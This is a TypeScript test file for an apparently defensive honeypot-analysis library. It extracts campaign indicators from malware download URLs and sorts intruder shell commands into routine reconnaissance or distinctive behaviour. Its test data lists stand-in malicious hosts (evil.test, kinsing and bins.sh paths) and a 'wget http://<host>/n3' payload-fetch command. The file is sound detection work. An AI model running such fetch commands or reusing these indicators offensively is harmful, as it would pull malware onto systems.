import { expect, test } from "bun:test";
import { isEveryday, isEverydayChain } from "../../../lib/campaigns/everyday.ts";
import { markId, markOfHash, marksOfUrl } from "../../../lib/campaigns/marks.ts";

test.each([
  ["http://198.51.100.7/kinsing", ["host 198.51.100.7", "path /kinsing"]],
  ["http://evil.test:8080/ssh/new/x86_64?a=1", ["host evil.test", "path /ssh/new/<arch>"]],
  ["http://evil.test/bins/mips", ["host evil.test"]],
  ["http://evil.test/bins.sh", ["host evil.test"]],
  ["http://evil.test", ["host evil.test"]],
  ["https://raw.githubusercontent.com/u/r/main/x.sh", ["path raw.githubusercontent.com/u/r/main/x.sh"]],
  ["http://192.168.1.2/kinsing", ["path /kinsing"]],
  ["/dev/null", []],
])("marks of %s", (url, marks) => {
  expect(marksOfUrl(url).map(({ kind, value }) => `${kind} ${value}`)).toEqual(marks);
});

test("a hash is a mark, but of what anybody writes", () => {
  const sha = (text: string) => new Bun.CryptoHasher("sha256").update(text).digest("hex");
  expect(markOfHash(sha("otter").toUpperCase())).toEqual({ kind: "hash", value: sha("otter") });
  for (const text of ["", "\n", "ok\n", "test"]) expect(markOfHash(sha(text))).toBeUndefined();
  expect(markOfHash("no hash")).toBeUndefined();
});

test("a key has one id, planted or offered", () => {
  expect(markId({ kind: "planted", value: "SHA256:x" })).toBe(markId({ kind: "offered", value: "SHA256:x" }));
  expect(markId({ kind: "host", value: "x" })).not.toBe(markId({ kind: "path", value: "x" }));
});

test.each([
  [["uname -a"], true],
  [["uname -a ; exit"], true],
  [["enable", "system", "shell", "sh"], true],
  [["cat /proc/cpuinfo", "w", "id"], true],
  [["/bin/busybox <name>"], true],
  [["uname -s -v -n -r -m"], false],
  [["lspci | grep VGA"], false],
  [["echo -e \"\\x6F\\x6B\""], false],
  [["wget http://<host>/n3"], false],
  [["w", "id", "ls", "uname -a", "free -m"], false],
  [[""], true],
])("%j is everybody's: %p", (commands, expected) => {
  expect(isEverydayChain(commands)).toBe(expected);
  if (commands.length === 1) expect(isEveryday(commands[0]!)).toBe(expected);
});
